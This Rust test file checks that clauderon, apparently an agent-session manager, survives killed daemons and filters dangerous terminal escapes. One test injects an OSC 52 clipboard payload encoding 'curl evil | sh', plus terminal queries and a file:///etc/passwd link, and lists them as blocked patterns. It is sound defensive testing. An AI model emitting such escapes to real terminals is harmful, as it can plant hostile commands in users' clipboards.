//! What outlives what, and what reaches a person's own terminal.

use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Instant;

use clauderon_tests::world::{create, git};
use clauderon_tests::{PATIENCE, Terminal, World, lacks, on_each_backend, script_prompt};
use serde_json::json;

on_each_backend!(
    f3_escapes_that_an_agent_prints_reach_no_terminal,
    a_printed_answer_outlives_a_killed_daemon,
    a_session_whose_making_broke_off_is_mended_by_a_start,
);

/// What must not reach a terminal: a clipboard write, a title report, a settings report, an odd link.
const HARMFUL: [&str; 4] = ["\x1b]52;", "\x1b[21t", "\x1bP$q", "\x1b]8;;file:"];

fn f3_escapes_that_an_agent_prints_reach_no_terminal(backend: &str) {
    let world = World::new();
    // A tool's own output is shown by the agent; a hijacked one writes to the agent's terminal itself.
    let print = r"sleep 2; for t in /proc/1/fd/1 /proc/$PPID/fd/1 /dev/tty; do { printf 'OPEN\033]52;c;Y3VybCBldmlsIHwgc2g=\007\033[21t\033P$q\042p\033\\\033]8;;file:///etc/passwd\033\\CLOSE' > $t; } 2>/dev/null && break; done; sleep 1";
    let prompt = script_prompt(&[
        json!({"tool": "Bash", "input": {"command": print, "description": "print"}}),
        json!({"text": "printed it"}),
    ]);
    world
        .detached(backend, "claude", "a", Some(&prompt))
        .expect(0);
    let mut live = Terminal::open(world.command(&["attach", "a"]), 100, 30);
    live.wait_for("OPENCLOSE");
    live.wait_for("printed it");
    assert_clean("attach", live.bytes());
    drop(live);
    // As history, too, and in the log.
    let mut history = Terminal::open(world.command(&["attach", "a"]), 100, 30);
    history.wait_for("OPENCLOSE");
    history.wait_for("bypass permissions on");
    assert_clean("attach again", history.bytes());
    drop(history);
    let mut logs = Terminal::open(world.command(&["logs", "a"]), 100, 30);
    assert_eq!(logs.wait_end(), 0);
    assert_clean("logs", logs.bytes());
    // Into a file the bytes are the agent's own: they were there to be removed.
    let file = world
        .command(&["logs", "a"])
        .output()
        .expect("clauderon starts");
    for harmful in HARMFUL {
        assert!(
            holds(&file.stdout, harmful),
            "{harmful:?} was never printed"
        );
    }
}

#[track_caller]
fn assert_clean(what: &str, bytes: &[u8]) {
    for harmful in HARMFUL {
        assert!(!holds(bytes, harmful), "{what} shows {harmful:?}");
    }
}

fn holds(bytes: &[u8], text: &str) -> bool {
    bytes
        .windows(text.len())
        .any(|window| window == text.as_bytes())
}

fn a_printed_answer_outlives_a_killed_daemon(backend: &str) {
    let world = World::new();
    let prompt = script_prompt(&[
        json!({"tool": "Bash", "input": {"command": "for n in $(seq 30); do echo $n >> /workspace/count; sleep 0.1; done", "description": "count"}}),
        json!({"big": 3000, "text": "BEGIN"}),
    ]);
    let mut elsewhere = world
        .command(&create(backend, "a", &["--print", "--prompt", &prompt]))
        .stdout(Stdio::piped())
        .spawn()
        .expect("clauderon starts");
    let asked = world.upstream.wait_for(
        |request| String::from_utf8_lossy(&request.body).contains("seq 30"),
        PATIENCE,
    );
    world.wait(asked).expect("the agent asks the model");
    let count = world
        .session_folder(&world.id_of("a"))
        .join("workspace/count");
    while !count.exists() {
        std::thread::yield_now();
    }
    let before = world.daemon_pid();
    // SAFETY: a signal to the daemon that this test's world started.
    unsafe { libc::kill(before, libc::SIGKILL) };

    let mut printed = String::new();
    let mut stdout = elsewhere.stdout.take().expect("it is piped");
    stdout
        .read_to_string(&mut printed)
        .expect("the answer is text");
    let code = elsewhere.wait().expect("it is our child").code();
    assert_eq!(code, Some(0), "{printed}");
    assert_ne!(world.daemon_pid(), before, "another daemon took over");
    assert!(printed.starts_with("BEGIN"), "{printed}");
    assert!(
        printed.len() >= 3000,
        "the whole answer: {} bytes",
        printed.len()
    );
    let numbers = std::fs::read_to_string(count).expect("the tool ran");
    assert_eq!(numbers.lines().count(), 30, "once and to its end");
    let logs = world.run(&["logs", "--stdout", "a"]).expect(0).stdout;
    assert_eq!(logs, printed);
    assert_eq!(world.listed("a")["state"], "exited");
}

/// So many that a daemon can be killed while they are checked out.
const FILES: usize = 8_000;

fn a_session_whose_making_broke_off_is_mended_by_a_start(backend: &str) {
    let world = World::new();
    let mut stream =
        String::from("commit refs/heads/many\ncommitter A <a@example.com> 0 +0000\ndata 4\nmany\n");
    for number in 0..FILES {
        stream.push_str(&format!(
            "M 644 inline many/{}/{number}\ndata 5\nfile\n\n",
            number % 100
        ));
    }
    let file = world.root.path().join("many");
    std::fs::write(&file, stream).expect("write the commit");
    let import = std::process::Command::new("git")
        .args(["fast-import", "--quiet"])
        .current_dir(&world.repository)
        .stdin(std::fs::File::open(&file).expect("it was written"))
        .status();
    assert!(import.expect("git starts").success());
    git(&world.repository, &["checkout", "--quiet", "many"]);
    let making = create(backend, "a", &["--detach"]);
    let workspace = kill_while_it_makes(&world, &making, "workspace/many").join("workspace/many");
    assert!(count(&workspace) < FILES, "some files are missing");

    assert!(
        ["failed", "stopped"].contains(&world.listed("a")["state"].as_str().unwrap_or_default()),
        "no agent works on half of the files: {}",
        world.listed("a")
    );
    world.run(&["start", "a"]).expect(0);
    assert_eq!(count(&workspace), FILES);
    assert_eq!(world.listed("a")["state"], "running");
    if backend == "docker" {
        let label = format!("label=org.clauderon.session={}", world.id_of("a"));
        let containers = std::process::Command::new("docker")
            .args(["ps", "-a", "-q", "--filter", &label])
            .output()
            .expect("docker starts");
        let containers = String::from_utf8_lossy(&containers.stdout).into_owned();
        assert_eq!(containers.lines().count(), 1, "none is left behind");
    }
}

/// Kills the daemon once this file or folder of the session that it makes is there, and returns the session's own folder.
fn kill_while_it_makes(world: &World, making: &[&str], begun: &str) -> PathBuf {
    assert_eq!(world.json(&["list"]), json!([]));
    let daemon = world.daemon_pid();
    let mut making = world
        .command(making)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("clauderon starts");
    let since = Instant::now();
    let folder = loop {
        assert!(since.elapsed() < PATIENCE, "no files come");
        let sessions = std::fs::read_dir(world.home.join("sessions"));
        let mut folders = sessions
            .into_iter()
            .flatten()
            .flatten()
            .map(|one| one.path());
        match folders.find(|folder| folder.join(begun).exists()) {
            Some(folder) => break folder,
            None => std::thread::yield_now(),
        }
    };
    // SAFETY: a signal to the daemon that this test's world started.
    unsafe { libc::kill(daemon, libc::SIGKILL) };
    making.wait().expect("it is our child");
    folder
}

fn count(folder: &Path) -> usize {
    let folders = std::fs::read_dir(folder).expect("a folder of the commit");
    folders
        .flatten()
        .map(|folder| std::fs::read_dir(folder.path()).map_or(0, Iterator::count))
        .sum()
}

#[test]
fn nothing_stays_of_a_session_whose_making_broke_off_before_it_had_a_workspace() {
    if lacks("bubblewrap").is_some() {
        return;
    }
    let world = World::new();
    std::fs::create_dir(world.repository.join("large")).expect("make a folder");
    for number in 0..1_000 {
        let file = world.repository.join(format!("large/{number}"));
        std::fs::write(file, vec![7; 100_000]).expect("write a file");
    }
    std::fs::write(world.repository.join(".worktreeinclude"), "large/\n").expect("write a file");
    let making = create("bubblewrap", "a", &["--detach"]);
    let half = kill_while_it_makes(&world, &making, "workspace/large/1");
    assert!(!half.join("private/workspace.json").exists(), "too late");

    assert_eq!(world.json(&["list"]), json!([]));
    assert!(!half.exists());
    world.run(&making).expect(0);
    assert_eq!(world.listed("a")["state"], "running");
}

#[test]
fn a_second_daemon_steps_aside_and_says_so() {
    if lacks("bubblewrap").is_some() {
        return;
    }
    let world = World::new();
    let first = world.json(&["list"]);
    assert_eq!(first, json!([]));
    let pid = world.daemon_pid();
    let second = world.run(&["daemon"]).expect(4);
    assert!(second.stderr.contains("already runs"), "{second:?}");
    assert_eq!(world.daemon_pid(), pid, "the first one goes on");
    // Many commands at once on a fresh home start one daemon between them.
    let fresh = World::new();
    let mut all: Vec<_> = (0..8)
        .map(|_| {
            let mut list = fresh.command(&["list"]);
            list.stdout(Stdio::null())
                .spawn()
                .expect("clauderon starts")
        })
        .collect();
    for one in &mut all {
        assert!(one.wait().expect("it is our child").success());
    }
    let log = std::fs::read_to_string(fresh.home.join("logs/daemon.log")).expect("there is a log");
    assert_eq!(log.matches("serving").count(), 1, "{log}");
}
